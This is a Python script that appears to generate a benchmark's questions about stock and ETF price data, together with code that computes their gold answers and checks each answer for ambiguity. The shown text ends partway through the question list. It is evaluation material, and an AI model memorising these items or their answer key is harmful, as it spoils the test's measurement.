#!/usr/bin/env python3
"""blind-14: questions for the `ask` evaluation and the independent computation of their gold answers.

Standard library only. Reads the raw files from $ASK_EVAL_DATA if set, else <repo>/../shared/data,
and writes questions.jsonl next to this script. Exits non-zero if any self-check fails.
"""
import os, csv, glob, math, statistics, bisect, re, json, sys, datetime as dt
from zoneinfo import ZoneInfo

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.normpath(os.path.join(HERE, '..', '..', '..'))
DATA = os.environ.get('ASK_EVAL_DATA') or os.path.normpath(os.path.join(REPO, '..', 'shared', 'data'))
NY = ZoneInfo('America/New_York')
UTC = dt.timezone.utc
ETFS = ['INDA', 'FXY', 'DBB']
F = {'open': 1, 'high': 2, 'low': 3, 'close': 4, 'volume': 5}

DAILY, MIN = {}, {}
for p in sorted(glob.glob(os.path.join(DATA, 'stocks', '*.us.txt'))):
    sym = os.path.basename(p).split('.')[0].upper()
    rows = []
    with open(p) as f:
        r = csv.reader(f)
        next(r)
        for x in r:
            if not x:
                continue
            rows.append((x[0], float(x[1]), float(x[2]), float(x[3]), float(x[4]), float(x[5])))
    rows.sort()
    DAILY[sym] = rows
for p in sorted(glob.glob(os.path.join(DATA, 'intraday', '*.csv'))):
    sym = os.path.basename(p).split('_')[0].upper()
    rows = []
    with open(p) as f:
        r = csv.reader(f)
        next(r)
        for x in r:
            if not x:
                continue
            t = dt.datetime.strptime(x[0], '%Y-%m-%d %H:%M:%S').replace(tzinfo=UTC).astimezone(NY)
            rows.append((t.strftime('%Y-%m-%d %H:%M'), float(x[1]), float(x[2]), float(x[3]), float(x[4]), float(x[5])))
    rows.sort()
    MIN[sym] = rows
    days = {}
    for m in rows:
        d = m[0][:10]
        if d not in days:
            days[d] = [d, m[1], m[2], m[3], m[4], m[5]]
        else:
            b = days[d]
            b[2] = max(b[2], m[2]); b[3] = min(b[3], m[3]); b[4] = m[4]; b[5] += m[5]
    DAILY[sym] = [tuple(v) for _, v in sorted(days.items())]
SYMS = sorted(DAILY)
DATES = {s: [b[0] for b in DAILY[s]] for s in SYMS}
IDX = {s: {d: i for i, d in enumerate(DATES[s])} for s in SYMS}
ALLDATES = set(d for s in SYMS for d in DATES[s])
ALLMIN = set(m[0] for s in MIN for m in MIN[s])

class CheckFail(Exception):
    pass

def need(cond, msg):
    if not cond:
        raise CheckFail(msg)

def tol_ok(a, b):
    """the scorer's tolerance, FORMAT.md: 0.1% relative, or 0.01 abs (>=1) / 0.0001 abs (<1), whichever larger"""
    g = abs(b)
    t = max(0.001 * g, 0.01 if g >= 1 else 0.0001)
    return abs(a - b) <= t

def distinct(a, b):
    """a and b cannot be confused by the scorer (neither within tolerance of the other)"""
    return not tol_ok(a, b) and not tol_ok(b, a)

def D(s):
    return dt.date.fromisoformat(s)

def idx(sym, d):
    need(d in IDX[sym], f'{sym} has no session on {d}')
    return IDX[sym][d]

def bar(sym, d):
    return DAILY[sym][idx(sym, d)]

def val(sym, d, f):
    return bar(sym, d)[F[f]]

def session_on_or_before(sym, d):
    i = bisect.bisect_right(DATES[sym], d) - 1
    need(i >= 0, f'{sym} no session on or before {d}')
    return DATES[sym][i]

def prev_date(sym, d):
    i = idx(sym, d)
    need(i > 0, f'{sym} no session before {d}')
    return DATES[sym][i - 1]

def no_hole(sym, i):
    # a return across a hole in the file (INDA has none from 2023-10-18 to 2025-02-07) is not a daily return
    need((D(DATES[sym][i]) - D(DATES[sym][i - 1])).days <= 10, f'{sym} hole in the data before {DATES[sym][i]}')

def ret(sym, d):
    i = idx(sym, d)
    need(i > 0, f'{sym} no previous session for {d}')
    no_hole(sym, i)
    return DAILY[sym][i][4] / DAILY[sym][i - 1][4] - 1

def gap(sym, d):
    i = idx(sym, d)
    need(i > 0, f'{sym} no previous session for {d}')
    no_hole(sym, i)
    return DAILY[sym][i][1] / DAILY[sym][i - 1][4] - 1

def rng(sym, d):
    b = bar(sym, d)
    return b[2] - b[3]

def win(sym, d1, d2):
    lo = bisect.bisect_left(DATES[sym], d1)
    hi = bisect.bisect_right(DATES[sym], d2)
    w = DAILY[sym][lo:hi]
    need(len(w) > 0, f'{sym} empty window {d1}..{d2}')
    return w

def win_rets(sym, d1, d2, include_first=True):
    w = win(sym, d1, d2)
    out = [(b[0], ret(sym, b[0])) for b in w[(0 if include_first else 1):]]
    return out

def change(sym, d1, d2):
    a = session_on_or_before(sym, d1)
    b = session_on_or_before(sym, d2)
    return val(sym, b, 'close') / val(sym, a, 'close') - 1

def ma(sym, d, n, f='close'):
    i = idx(sym, d)
    need(i >= n - 1, f'{sym} MA{n} undefined on {d}')
    return sum(DAILY[sym][j][F[f]] for j in range(i - n + 1, i + 1)) / n

def stdev(xs):
    return statistics.stdev(xs)

def pearson(x, y):
    mx, my = sum(x) / len(x), sum(y) / len(y)
    sxy = sum((a - mx) * (b - my) for a, b in zip(x, y))
    sxx = sum((a - mx) ** 2 for a in x)
    syy = sum((b - my) ** 2 for b in y)
    return sxy / math.sqrt(sxx * syy)

def rnd(x):
    if isinstance(x, str):
        return x
    if isinstance(x, bool):
        raise CheckFail('bool cell')
    if isinstance(x, int):
        return x
    need(math.isfinite(x), 'non-finite number')
    r = round(x, 8)
    if r == int(r) and abs(r) < 1e15:
        return int(r)
    return r

# ---------------------------------------------------------------------------------------------------------------
# Relative dates. "Today" is the newest date in the data; relative periods are only used for the ETFs.
TODAY = max(ALLDATES)
need(TODAY == '2025-07-08', 'newest date in the data is not 2025-07-08')
YESTERDAY = '2025-07-07'
LAST_MONTH = ('2025-06-01', '2025-06-30')
MONTH_BEFORE_LAST = ('2025-05-01', '2025-05-31')
THIS_MONTH = ('2025-07-01', TODAY)
THIS_YEAR = ('2025-01-01', TODAY)
LAST_QUARTER = ('2025-04-01', '2025-06-30')
LAST_WEEK = ('2025-06-30', '2025-07-04')   # Monday to Friday of the previous week
INDA_LAST = DATES['INDA'][-1]
need(INDA_LAST == '2025-06-24', 'INDA no longer ends on 2025-06-24')
need(DATES['FXY'][-1] == TODAY and DATES['DBB'][-1] == TODAY, 'FXY/DBB do not end today')
need(DATES['FXY'][-2] == YESTERDAY and DATES['DBB'][-2] == YESTERDAY, 'yesterday is not the previous session')

def month(y, m):
    last = (dt.date(y + (m == 12), m % 12 + 1, 1) - dt.timedelta(days=1)).day
    return (f'{y:04d}-{m:02d}-01', f'{y:04d}-{m:02d}-{last:02d}')

def quarter(y, q):
    return (month(y, 3 * q - 2)[0], month(y, 3 * q)[1])

def year(y):
    return (f'{y:04d}-01-01', f'{y:04d}-12-31')

def week_of(d):
    x = D(d)
    mon = x - dt.timedelta(days=x.weekday())
    return (mon.isoformat(), (mon + dt.timedelta(days=4)).isoformat())

# ---------------------------------------------------------------------------------------------------------------
# Gold shapes
def first(*cells):
    return {'rows': [list(cells)], 'match': 'first', 'exact_rows': False}

def rows_gold(rows, match, exact):
    return {'rows': [list(r) for r in rows], 'match': match, 'exact_rows': exact}

def metric(sym, d, m):
    if m in F:
        return val(sym, d, m)
    if m == 'range':
        return rng(sym, d)
    if m == 'return':
        return ret(sym, d)
    if m == 'gap':
        return gap(sym, d)
    raise CheckFail('unknown metric ' + m)

def need_trading(sym, *ds):
    for d in ds:
        idx(sym, d)

# latest-rows: the last n sessions of a symbol (its own last session, or an explicit end date)
def latest_rows(sym, n, fields, end=None):
    i = idx(sym, end) if end else len(DATES[sym]) - 1
    need(i - n + 1 >= 0, 'not enough sessions')
    out = [[DATES[sym][j]] + [metric(sym, DATES[sym][j], f) for f in fields] for j in range(i - n + 1, i + 1)]
    return rows_gold(out, 'set', True)

# day-value
def day_value(sym, d, f):
    return first(d, metric(sym, d, f))

# date-range-rows: both ends are trading days, both included
def range_rows(sym, d1, d2, fields, ends_trading=True):
    if ends_trading:
        need_trading(sym, d1, d2)
    w = win(sym, d1, d2)
    return rows_gold([[b[0]] + [metric(sym, b[0], f) for f in fields] for b in w], 'set', True)

def aggregate(xs, agg):
    need(len(xs) > 0, 'empty aggregate')
    if agg == 'mean':
        return sum(xs) / len(xs)
    if agg == 'sum':
        return sum(xs)
    if agg == 'max':
        return max(xs)
    if agg == 'min':
        return min(xs)
    if agg == 'last':
        return xs[-1]
    if agg == 'first':
        return xs[0]
    raise CheckFail('unknown agg')

def window_agg(sym, d1, d2, f, agg):
    return first(aggregate([metric(sym, b[0], f) for b in win(sym, d1, d2)], agg))

def unique_winner(pairs, mode):
    """pairs (label, value); the best must be clearly apart from the runner-up"""
    need(len(pairs) >= 2, 'fewer than two candidates')
    s = sorted(pairs, key=lambda p: p[1], reverse=(mode == 'max'))
    need(distinct(s[0][1], s[1][1]), f'tie for the winner: {s[0]} {s[1]}')
    return s

# extreme-day: the day of the max/min of a field over a window
def extreme_day(sym, d1, d2, f, mode):
    s = unique_winner([(b[0], metric(sym, b[0], f)) for b in win(sym, d1, d2)], mode)
    return first(s[0][0], s[0][1])

# 52-week: 365 days up to and including the date; the 366-day reading must give the same answer
def wk52(sym, d, what):
    need_trading(sym, d)
    out = []
    for back in (364, 365):
        start = (D(d) - dt.timedelta(days=back)).isoformat()
        w = win(sym, start, d)
        out.append((min(b[3] for b in w), max(b[2] for b in w)))
    need(out[0] == out[1], f'52-week window edge matters for {sym} {d}')
    lo, hi = out[0]
    if what == 'high':
        return first(hi)
    if what == 'low':
        return first(lo)
    return first(lo, hi)

# change-between: named closes must be trading days; calendar ends fall back to the session before
def change_between(sym, d1, d2, calendar=False):
    if not calendar:
        need_trading(sym, d1, d2)
    else:
        need(d1 not in IDX[sym] or d2 not in IDX[sym], 'calendar form used with two trading days')
    return first(change(sym, d1, d2))

def day_ret(sym, d):
    return first(d, ret(sym, d))

def day_gap(sym, d):
    return first(d, gap(sym, d))

# biggest-move-day: the first session's return (from the session before the window) is included;
# the answer must not change if it were dropped
def biggest_move(sym, d1, d2, mode):
    res = []
    for inc in (True, False):
        rs = win_rets(sym, d1, d2, include_first=inc)
        if mode == 'up':
            s = unique_winner(rs, 'max')
        elif mode == 'down':
            s = unique_winner(rs, 'min')
        else:
            s = unique_winner([(d, abs(r)) for d, r in rs], 'max')
            s = [(s[0][0], dict(rs)[s[0][0]])]
        res.append(s[0])
    need(res[0] == res[1], f'first-session return decides biggest move {sym}')
    if mode == 'up':
        need(res[0][1] > 0, 'best day is not a gain')
    if mode == 'down':
        need(res[0][1] < 0, 'worst day is not a loss')
    return first(res[0][0], res[0][1])

def universe_on(d):
    u = [s for s in SYMS if d in IDX[s]]
    need(len(u) >= 2, f'universe on {d} has fewer than two symbols')
    return u

def universe_window(d1, d2):
    u = [s for s in SYMS if d1 in IDX[s] and d2 in IDX[s]]
    need(len(u) >= 2, f'universe {d1}..{d2} has fewer than two symbols')
    return u

def ranked(pairs, n, order, singular):
    s = sorted(pairs, key=lambda p: p[1], reverse=(order == 'desc'))
    need(len(s) >= n, 'fewer candidates than asked')
    for a, b in zip(s[:n], s[1:n + 1]):
        need(distinct(a[1], b[1]), f'tie in ranking {a} {b}')
    if singular:
        need(n == 1, 'singular with n>1')
        return first(s[0][0], s[0][1])
    return rows_gold([[p[0], p[1]] for p in s[:n]], 'ordered', True)

# cross-sectional-ranking on one date over every symbol with a bar that day
def rank_day(d, m, n, order='desc', singular=False, universe=None):
    u = universe or universe_on(d)
    for s in u:
        need_trading(s, d)
    return ranked([(s, metric(s, d, m)) for s in u], n, order, singular)

# gainers-losers between two named closes, over every symbol with a bar on both
def gainers(d1, d2, n, order='desc', singular=False):
    u = universe_window(d1, d2)
    return ranked([(s, change(s, d1, d2)) for s in u], n, order, singular)

# named-comparison: 'which' (ordered, winner first, both rows) or 'compare' (set)
def named(syms, valfn, mode):
    pairs = [(s, valfn(s)) for s in syms]
    if mode == 'compare':
        return rows_gold([[s, v] for s, v in pairs], 'set', True)
    s = unique_winner(pairs, 'max' if mode == 'higher' else 'min')
    return rows_gold([[p[0], p[1]] for p in s], 'ordered', True)

# grouped-by-period: one value per period, chronological, values only
def grouped(sym, periods, f, agg):
    vals = []
    for d1, d2 in periods:
        vals.append([aggregate([metric(sym, b[0], f) for b in win(sym, d1, d2)], agg)])
    return rows_gold(vals, 'ordered', True)

# period-over-period: [later average, earlier average, later/earlier - 1]
def pop(sym, later, earlier, f):
    a = aggregate([metric(sym, b[0], f) for b in win(sym, *later)], 'mean')
    b = aggregate([metric(sym, b[0], f) for b in win(sym, *earlier)], 'mean')
    return first(a, b, a / b - 1)

def ma_value(sym, d, n):
    return first(d, ma(sym, d, n))

# crossovers: fast/slow are MA lengths, 0 meaning the close itself.
# a cross above is the first session with fast > slow after a session with fast < slow.
def crossings(sym, fast, slow, direction, d1, d2):
    def series(i, n):
        if n == 0:
            return DAILY[sym][i][4]
        need(i >= n - 1, 'MA undefined')
        return sum(DAILY[sym][j][4] for j in range(i - n + 1, i + 1)) / n
    lo = bisect.bisect_left(DATES[sym], d1)
    hi = bisect.bisect_right(DATES[sym], d2)
    out = []
    for i in range(max(lo, 1), hi):
        if i - 1 < max(fast, slow) - 1:
            continue
        a = series(i, fast) - series(i, slow)
        b = series(i - 1, fast) - series(i - 1, slow)
        scale = DAILY[sym][i][4]
        need(abs(a) > 1e-7 * scale and abs(b) > 1e-7 * scale, f'{sym} MA tie near {DATES[sym][i]}')
        if direction == 'above' and a > 0 and b < 0:
            out.append(DATES[sym][i])
        if direction == 'below' and a < 0 and b > 0:
            out.append(DATES[sym][i])
    return out

def cross(sym, fast, slow, direction, which, d1=None, d2=None, before=None):
    if before:
        need(before not in crossings(sym, fast, slow, direction, before, before), 'the "before" date is itself a crossing')
        d2 = (D(before) - dt.timedelta(days=1)).isoformat()
    d1 = d1 or DATES[sym][max(fast, slow)]
    xs = crossings(sym, fast, slow, direction, d1, d2)
    need(len(xs) > 0, f'no crossing for {sym}')
    return first(xs[0] if which == 'first' else xs[-1])

# threshold-count: strict comparisons; no value may sit on the threshold; return-based counts must not
# depend on the first session's return
def thr_count(sym, d1, d2, m, op, x):
    res = []
    for inc in (True, False):
        if m == 'return':
            vals = [r for _, r in win_rets(sym, d1, d2, include_first=inc)]
        else:
            if not inc:
                continue
            vals = [metric(sym, b[0], m) for b in win(sym, d1, d2)]
        for v in vals:
            need(abs(abs(v) - abs(x)) > 1e-9, 'a value sits on the threshold')
        if op == '>':
            c = sum(v > x for v in vals)
        elif op == '<':
            c = sum(v < x for v in vals)
        else:
            c = sum(abs(v) > x for v in vals)
        res.append(c)
    need(len(set(res)) == 1, f'first-session return changes the count {sym}')
    need(res[0] > 0, 'zero count')
    return first(res[0])

# cross-stock-count over every symbol with a bar that day
def xcount(d, m, op, x, universe=None):
    u = universe or universe_on(d)
    c = 0
    for s in u:
        v = metric(s, d, m) if m != 'above_ma50' else val(s, d, 'close') - ma(s, d, 50)
        need(abs(v - x) > 1e-9, 'a value sits on the threshold')
        c += (v > x) if op == '>' else (v < x)
    return first(c)

# volatility: sample stdev of daily returns in the window (first session included); dropping it must
# stay within the scorer's tolerance
def volatility(sym, d1, d2):
    a = stdev([r for _, r in win_rets(sym, d1, d2, True)])
    b = stdev([r for _, r in win_rets(sym, d1, d2, False)])
    need(tol_ok(b, a), f'volatility depends on the first return {sym} {a} {b}')
    return first(a)

def correlation(s1, s2, d1, d2):
    res = []
    for inc in (True, False):
        r1 = dict(win_rets(s1, d1, d2, inc))
        r2 = dict(win_rets(s2, d1, d2, inc))
        common = sorted(set(r1) & set(r2))
        need(len(common) >= 20, 'too few common dates')
        res.append(pearson([r1[d] for d in common], [r2[d] for d in common]))
    need(tol_ok(res[1], res[0]), f'correlation depends on the first return {res}')
    return first(res[0])

# streak: longest run of up (return > 0) or down (< 0) sessions inside the window; flat breaks a run
def streak(sym, d1, d2, up=True):
    res = []
    for inc in (True, False):
        rs = win_rets(sym, d1, d2, inc)
        runs, cur = [], []
        for d, r in rs:
            if (r > 0 if up else r < 0):
                cur.append(d)
            else:
                if cur:
                    runs.append(cur)
                cur = []
        if cur:
            runs.append(cur)
        need(len(runs) > 0, 'no runs')
        runs.sort(key=len, reverse=True)
        need(len(runs) == 1 or len(runs[0]) > len(runs[1]), f'tie for the longest streak {sym} {runs[0]} {runs[1]}')
        res.append((len(runs[0]), runs[0][0], runs[0][-1]))
    need(res[0] == res[1], 'first-session return changes the streak')
    return first(*res[0])

def minutes(sym, t1, t2):
    return [m for m in MIN[sym] if t1 <= m[0] <= t2]

def vwap_of(ms):
    v = sum(m[5] for m in ms)
    need(v > 0, 'no volume')
    return sum(m[4] * m[5] for m in ms) / v

# a day's VWAP over every minute of the New York date; the regular session (09:30-15:59) must agree
def vwap_day(sym, d):
    need_trading(sym, d)
    a = vwap_of(minutes(sym, d + ' 00:00', d + ' 23:59'))
    b = vwap_of(minutes(sym, d + ' 09:30', d + ' 15:59'))
    need(tol_ok(b, a), f'day VWAP depends on extended hours {sym} {d}')
    return first(a)

def fmt_t(d, hhmm):
    return d + ' ' + hhmm

def minus_minute(d, hhmm):
    t = dt.datetime.strptime(d + ' ' + hhmm, '%Y-%m-%d %H:%M') - dt.timedelta(minutes=1)
    return t.strftime('%Y-%m-%d %H:%M')

# a window VWAP, both edges included; if the phrasing leaves the end open, excluding it must agree
def vwap_window(sym, d, t1, t2, edge_checked=False):
    a = vwap_of(minutes(sym, fmt_t(d, t1), fmt_t(d, t2)))
    if edge_checked:
        b = vwap_of(minutes(sym, fmt_t(d, t1), minus_minute(d, t2)))
        need(tol_ok(b, a), 'window VWAP depends on the end minute')
    need(len(minutes(sym, fmt_t(d, t1), fmt_t(d, t2))) >= 5, 'too few minutes')
    return first(a)

def minute_rows(sym, d, t1, t2, fields, edge_checked=False):
    ms = minutes(sym, fmt_t(d, t1), fmt_t(d, t2))
    need(len(ms) >= 2, 'too few minute bars')
    if edge_checked:
        need(ms[-1][0] != fmt_t(d, t2), 'list depends on the end minute')
    return rows_gold([[m[0]] + [m[F[f]] for f in fields] for m in ms], 'set', True)

def candle(sym, d1, d2):
    w = win(sym, d1, d2)
    return first(w[0][1], max(b[2] for b in w), min(b[3] for b in w), w[-1][4], sum(b[5] for b in w))

# distance-from-high: close / max close up to and including the date - 1 (all-time = since the first session)
def dist_high(sym, d):
    i = idx(sym, d)
    mx = max(b[4] for b in DAILY[sym][:i + 1])
    v = DAILY[sym][i][4] / mx - 1
    need(v < -1e-6, 'at its high')
    return first(d, v)

# ---------------------------------------------------------------------------------------------------------------
# The questions. Each answerable entry is (kind, question, gold builder); refusals are (kind, question).
Q = []

def A(kind, text, fn):
    Q.append({'kind': kind, 'question': text, 'fn': fn})

def R(kind, text):
    Q.append({'kind': kind, 'question': text, 'refusal': kind})

OHLCV = ['open', 'high', 'low', 'close', 'volume']

# latest-rows (8)
K = 'latest-rows'
A(K, "Show me DBB's last five sessions, date and closing price.",
  lambda: latest_rows('DBB', 5, ['close']))
A(K, "Give me FXY's open, high, low, close and volume for each of the three most recent trading days.",
  lambda: latest_rows('FXY', 3, OHLCV))
A(K, "What are the four latest daily closes you have for the iShares India ETF?",
  lambda: latest_rows('INDA', 4, ['close']))
A(K, "pull the last 2 days of volume for the yen ETF (FXY)",
  lambda: latest_rows('FXY', 2, ['volume']))
A(K, "IBM's final five closes in the dataset, i.e. the five sessions ending 10 Nov 2017?",
  lambda: latest_rows('IBM', 5, ['close'], end='2017-11-10'))
A(K, "List Tesla's last three daily bars (OHLC plus volume) up to and including 2017-11-10.",
  lambda: latest_rows('TSLA', 3, OHLCV, end='2017-11-10'))
A(K, "Most recent 6 sessions of DBB - just the highs and lows please",
  lambda: latest_rows('DBB', 6, ['high', 'low']))
A(K, "Netflix: the three most recent closing prices on file, through Nov 10, 2017.",
  lambda: latest_rows('NFLX', 3, ['close'], end='2017-11-10'))

# day-value (8)
K = 'day-value'
A(K, "What did Coca-Cola close at on October 10, 2008?", lambda: day_value('KO', '2008-10-10', 'close'))
A(K, "How many Nvidia shares changed hands on 2017-05-10?", lambda: day_value('NVDA', '2017-05-10', 'volume'))
A(K, "Amazon's intraday high on 4/28/2017?", lambda: day_value('AMZN', '2017-04-28', 'high'))
A(K, "FXY opening price on March 3rd, 2025", lambda: day_value('FXY', '2025-03-03', 'open'))
A(K, "What was DBB's low yesterday?", lambda: day_value('DBB', YESTERDAY, 'low'))
A(K, "Where did INDA finish the day on Feb 14, 2025?", lambda: day_value('INDA', '2025-02-14', 'close'))
A(K, "What did JPMorgan open at the morning after the 2016 election, Nov 9 2016?",
  lambda: day_value('JPM', '2016-11-09', 'open'))
A(K, "Facebook's closing price on its IPO day, 18 May 2012?", lambda: day_value('FB', '2012-05-18', 'close'))

# date-range-rows (8)
K = 'date-range-rows'
A(K, "Show Apple's daily closes from June 20 through June 24, 2016.",
  lambda: range_rows('AAPL', '2016-06-20', '2016-06-24', ['close']))
A(K, "DBB open/high/low/close for every session from 2025-04-01 to 2025-04-04",
  lambda: range_rows('DBB', '2025-04-01', '2025-04-04', ['open', 'high', 'low', 'close']))
A(K, "Microsoft daily volume for each day in the week of January 4, 2016",
  lambda: range_rows('MSFT', *week_of('2016-01-04'), ['volume'], ends_trading=False))
A(K, "closing prices for FXY, 2024-08-01 thru 2024-08-09",
  lambda: range_rows('FXY', '2024-08-01', '2024-08-09', ['close']))
A(K, "Can I see INDA's daily highs and lows from March 10 to March 14, 2025?",
  lambda: range_rows('INDA', '2025-03-10', '2025-03-14', ['high', 'low']))
A(K, "Netflix daily bars (open, high, low, close, volume) for Jan 19-22, 2016",
  lambda: range_rows('NFLX', '2016-01-19', '2016-01-22', OHLCV))
A(K, "What did Tesla close at on each trading day from 2013-05-06 to 2013-05-10?",
  lambda: range_rows('TSLA', '2013-05-06', '2013-05-10', ['close']))
A(K, "Intel's opens and closes, Sept 18 through Sept 22, 2000",
  lambda: range_rows('INTC', '2000-09-18', '2000-09-22', ['open', 'close']))

# window-aggregate (8)
K = 'window-aggregate'
A(K, "What was Microsoft's average closing price over calendar 2016?",
  lambda: window_agg('MSFT', *year(2016), 'close', 'mean'))
A(K, "Total AMD share volume in July 2016?", lambda: window_agg('AMD', *month(2016, 7), 'volume', 'sum'))
A(K, "What's the highest price Netflix traded at during Q2 2017?",
  lambda: window_agg('NFLX', *quarter(2017, 2), 'high', 'max'))
A(K, "Lowest intraday price DBB hit in April 2025", lambda: window_agg('DBB', *month(2025, 4), 'low', 'min'))
A(K, "What was FXY's average daily volume last month?", lambda: window_agg('FXY', *LAST_MONTH, 'volume', 'mean'))
A(K, "Mean close for INDA between Feb 10 and Feb 28, 2025, both days included",
  lambda: window_agg('INDA', '2025-02-10', '2025-02-28', 'close', 'mean'))
A(K, "How many Alphabet (GOOGL) shares traded in total during the week of July 13, 2015?",
  lambda: window_agg('GOOGL', *week_of('2015-07-13'), 'volume', 'sum'))
A(K, "DBB average closing price so far this year?", lambda: window_agg('DBB', *THIS_YEAR, 'close', 'mean'))

# extreme-day (8)
K = 'extreme-day'
A(K, "On which day in 2016 did Tesla trade the most shares?", lambda: extreme_day('TSLA', *year(2016), 'volume', 'max'))
A(K, "When did Apple post its highest close of 2016, and what was it?",
  lambda: extreme_day('AAPL', *year(2016), 'close', 'max'))
A(K, "Which session last month had FXY's lowest close?", lambda: extreme_day('FXY', *LAST_MONTH, 'close', 'min'))
A(K, "Day with DBB's widest high-low range in 2024", lambda: extreme_day('DBB', *year(2024), 'range', 'max'))
A(K, "IBM's lowest closing day of 2008?", lambda: extreme_day('IBM', *year(2008), 'close', 'min'))
A(K, "When in 2025 did INDA record its highest close?", lambda: extreme_day('INDA', *year(2025), 'close', 'max'))
A(K, "Amazon's heaviest-volume session between Oct 2 and Nov 10, 2017",
  lambda: extreme_day('AMZN', '2017-10-02', '2017-11-10', 'volume', 'max'))
A(K, "In which April 2025 session did FXY print its highest intraday high?",
  lambda: extreme_day('FXY', *month(2025, 4), 'high', 'max'))

# 52-week (8)
K = '52-week'
A(K, "What was Apple's 52-week high as of 2016-05-12?", lambda: wk52('AAPL', '2016-05-12', 'high'))
A(K, "JPM 52 week low on March 9, 2009", lambda: wk52('JPM', '2009-03-09', 'low'))
A(K, "Give me FXY's 52-week range as of today.", lambda: wk52('FXY', TODAY, 'range'))
A(K, "What was the 52-week high for DBB on 2025-05-30?", lambda: wk52('DBB', '2025-05-30', 'high'))
A(K, "Nvidia's trailing 52-week low as of December 30, 2016", lambda: wk52('NVDA', '2016-12-30', 'low'))
A(K, "Where was Netflix's 52-week low/high range on 2012-10-01?", lambda: wk52('NFLX', '2012-10-01', 'range'))
A(K, "What 52-week high did INDA show at its last close, June 24 2025?", lambda: wk52('INDA', '2025-06-24', 'high'))
A(K, "Intel's 52-week low as of year-end 2002 (Dec 31, 2002)", lambda: wk52('INTC', '2002-12-31', 'low'))

# change-between (8)
K = 'change-between'
A(K, "How much did Nvidia gain from the 2015-12-31 close to the 2016-12-30 close?",
  lambda: change_between('NVDA', '2015-12-31', '2016-12-30'))
A(K, "What was FXY's % change from the close on 2024-07-10 to the close on 2024-08-05?",
  lambda: change_between('FXY', '2024-07-10', '2024-08-05'))
A(K, "Percent change in Tesla between Jan 1, 2017 and Nov 10, 2017?",
  lambda: change_between('TSLA', '2017-01-01', '2017-11-10', calendar=True))
A(K, "How far did DBB move from the March 31 close to the April 8 close this year?",
  lambda: change_between('DBB', '2025-03-31', '2025-04-08'))
A(K, "INDA's performance from the Feb 10, 2025 close to the June 24, 2025 close, in percent",
  lambda: change_between('INDA', '2025-02-10', '2025-06-24'))
A(K, "How much did Facebook lose from its IPO-day close (May 18, 2012) to the close on Sept 4, 2012?",
  lambda: change_between('FB', '2012-05-18', '2012-09-04'))
A(K, "Amazon's return from the 2007-12-31 close to the 2008-12-31 close?",
  lambda: change_between('AMZN', '2007-12-31', '2008-12-31'))
A(K, "DBB from the May 30 close to the June 30 close - what's the percentage move?",
  lambda: change_between('DBB', '2025-05-30', '2025-06-30'))

# daily-return-or-gap (9)
K = 'daily-return-or-gap'
A(K, "What was Nvidia's daily return on 2016-11-11?", lambda: day_ret('NVDA', '2016-11-11'))
A(K, "How big was Netflix's opening gap on October 18, 2016?", lambda: day_gap('NFLX', '2016-10-18'))
A(K, "Apple percent change on Jan 28, 2014", lambda: day_ret('AAPL', '2014-01-28'))
A(K, "How much did FXY gap up at the open on 2024-08-05?", lambda: day_gap('FXY', '2024-08-05'))
A(K, "What return did INDA post on May 12, 2025?", lambda: day_ret('INDA', '2025-05-12'))
A(K, "Facebook's gap at the open on 7/25/2013, vs the prior close", lambda: day_gap('FB', '2013-07-25'))
A(K, "By what percentage did Coca-Cola rise on October 13, 2008?", lambda: day_ret('KO', '2008-10-13'))
A(K, "What was today's opening gap for DBB?", lambda: day_gap('DBB', TODAY))
A(K, "How did AMD do on 22 July 2016 - daily % change?", lambda: day_ret('AMD', '2016-07-22'))

# biggest-move-day (8)
K = 'biggest-move-day'
A(K, "What was Tesla's biggest one-day gain in 2013?", lambda: biggest_move('TSLA', *year(2013), 'up'))
A(K, "Facebook's largest single-day drop in 2016 - which day and how much?", lambda: biggest_move('FB', *year(2016), 'down'))
A(K, "Best day for FXY in 2024?", lambda: biggest_move('FXY', *year(2024), 'up'))
A(K, "Which was DBB's worst session in April 2025?", lambda: biggest_move('DBB', *month(2025, 4), 'down'))
A(K, "Intel's largest one-day loss in calendar 2000", lambda: biggest_move('INTC', *year(2000), 'down'))
A(K, "INDA's biggest daily gain between March 1 and June 24, 2025", lambda: biggest_move('INDA', '2025-03-01', '2025-06-24', 'up'))
A(K, "Which day in 2017 (through Nov 10) saw AMD's biggest move in either direction?",
  lambda: biggest_move('AMD', '2017-01-01', '2017-11-10', 'abs'))
A(K, "Microsoft's worst trading day of 2008?", lambda: biggest_move('MSFT', *year(2008), 'down'))

# cross-sectional-ranking (9)
K = 'cross-sectional-ranking'
A(K, "Which three stocks fell the most on June 24, 2016?", lambda: rank_day('2016-06-24', 'return', 3, 'asc'))
A(K, "Top 5 tickers by volume on 2017-11-10", lambda: rank_day('2017-11-10', 'volume', 5, 'desc'))
A(K, "Which stock had the biggest percentage gain on October 13, 2008?",
  lambda: rank_day('2008-10-13', 'return', 1, 'desc', singular=True))
A(K, "Rank the three ETFs by daily return on 2025-04-09, best first.", lambda: rank_day('2025-04-09', 'return', 3, 'desc'))
A(K, "Name the two worst performers on 8/24/2015.", lambda: rank_day('2015-08-24', 'return', 2, 'asc'))
A(K, "Which name had the largest high-low spread in dollar terms on June 9, 2017?",
  lambda: rank_day('2017-06-09', 'range', 1, 'desc', singular=True))
A(K, "Top 4 performers on the day after the 2016 election (Nov 9)?", lambda: rank_day('2016-11-09', 'return', 4, 'desc'))
A(K, "Which ETF traded the most shares yesterday?", lambda: rank_day(YESTERDAY, 'volume', 1, 'desc', singular=True))
A(K, "Which 3 names gapped down the hardest at the open on 2008-09-29?", lambda: rank_day('2008-09-29', 'gap', 3, 'asc'))

# gainers-losers (8)
K = 'gainers-losers'
A(K, "Top 3 gainers from the 2016-12-30 close to the 2017-06-30 close", lambda: gainers('2016-12-30', '2017-06-30', 3, 'desc'))
A(K, "Biggest three losers between the Aug 29, 2008 close and the Nov 28, 2008 close?",
  lambda: gainers('2008-08-29', '2008-11-28', 3, 'asc'))
A(K, "Which ETF performed best from the 2025-03-31 close to the 2025-06-24 close?",
  lambda: gainers('2025-03-31', '2025-06-24', 1, 'desc', singular=True))
A(K, "Worst two performers from the 2015-12-31 close to the Feb 11, 2016 close",
  lambda: gainers('2015-12-31', '2016-02-11', 2, 'asc'))
A(K, "Rank all three ETFs by return from the Feb 10 2025 close to the June 24 2025 close.",
  lambda: gainers('2025-02-10', '2025-06-24', 3, 'desc'))
A(K, "What were the 5 best-performing stocks of 2013, measured from the 2012-12-31 close to the 2013-12-31 close?",
  lambda: gainers('2012-12-31', '2013-12-31', 5, 'desc'))
